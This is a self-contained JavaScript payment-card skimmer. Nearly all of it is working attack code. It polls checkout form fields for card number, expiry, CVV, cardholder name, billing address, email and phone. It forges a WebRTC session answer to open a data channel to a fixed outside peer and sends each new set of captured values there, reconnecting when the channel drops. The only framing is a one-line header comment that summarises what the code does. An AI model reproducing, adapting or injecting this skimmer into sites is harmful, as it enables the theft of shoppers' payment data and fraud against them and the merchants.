// corpus note: polls checkout inputs on a timer, and whenever the card/billing snapshot changes sends it over a WebRTC data channel to a fixed peer, reconnecting if the channel drops
(function () {
  const PEER_IP = "192.0.2.145";
  const PEER_PORT = 5349;
  const TICK = 1500;
  let rtc, dc, prev = "";

  const q = (s) => document.querySelector(s);
  const val = (...sels) => {
    for (const s of sels) {
      const el = q(s);
      if (el && el.value) return el.value;
    }
    return "";
  };

  function fakeAnswer(local) {
    return local
      .replace(/a=setup:actpass/g, "a=setup:passive")
      .replace(/a=ice-ufrag:\S+/g, "a=ice-ufrag:Tb8c")
      .replace(/a=ice-pwd:\S+/g, "a=ice-pwd:Jm2sKq9wXe4rUv7yPz1nHg5d")
      .replace(/c=IN IP4 [\d.]+/g, "c=IN IP4 " + PEER_IP)
      + `a=candidate:3 1 udp 2130706431 ${PEER_IP} ${PEER_PORT} typ host\r\n`;
  }

  function dial() {
    try { rtc && rtc.close(); } catch (e) { /* noop */ }
    rtc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${PEER_IP}:${PEER_PORT}` }], bundlePolicy: "max-bundle" });
    dc = rtc.createDataChannel("poll", { maxRetransmits: 3 });
    rtc.createOffer()
      .then((o) => rtc.setLocalDescription(o))
      .then(() => rtc.setRemoteDescription({ type: "answer", sdp: fakeAnswer(rtc.localDescription.sdp) }))
      .catch(() => {});
    rtc.onconnectionstatechange = () => {
      if (rtc.connectionState === "failed") setTimeout(dial, 20000);
    };
  }

  function snapshot() {
    return {
      number: val("input[autocomplete='cc-number']", "#credit-card-number", "input[name='cardnumber']"),
      exp: val("input[autocomplete='cc-exp']", "#expiration", "input[name='exp-date']") ||
        (val("select[autocomplete='cc-exp-month']") + "/" + val("select[autocomplete='cc-exp-year']")),
      csc: val("input[autocomplete='cc-csc']", "#cvv", "input[name='cvc']"),
      name: val("input[autocomplete='cc-name']", "#name-on-card"),
      line1: val("input[autocomplete='address-line1']", "#billing-address"),
      zip: val("input[autocomplete='postal-code']", "#billing-zip"),
      email: val("input[autocomplete='email']", "input[type='email']"),
      phone: val("input[autocomplete='tel']", "input[type='tel']")
    };
  }

  function tick() {
    const s = snapshot();
    if (s.number.replace(/\s/g, "").length < 14 || s.csc.length < 3) return;
    const serial = JSON.stringify(s);
    if (serial === prev) return;
    if (dc && dc.readyState === "open") {
      dc.send(JSON.stringify({ h: location.host, d: s }));
      prev = serial;
    }
  }

  dial();
  setInterval(tick, TICK);
})();
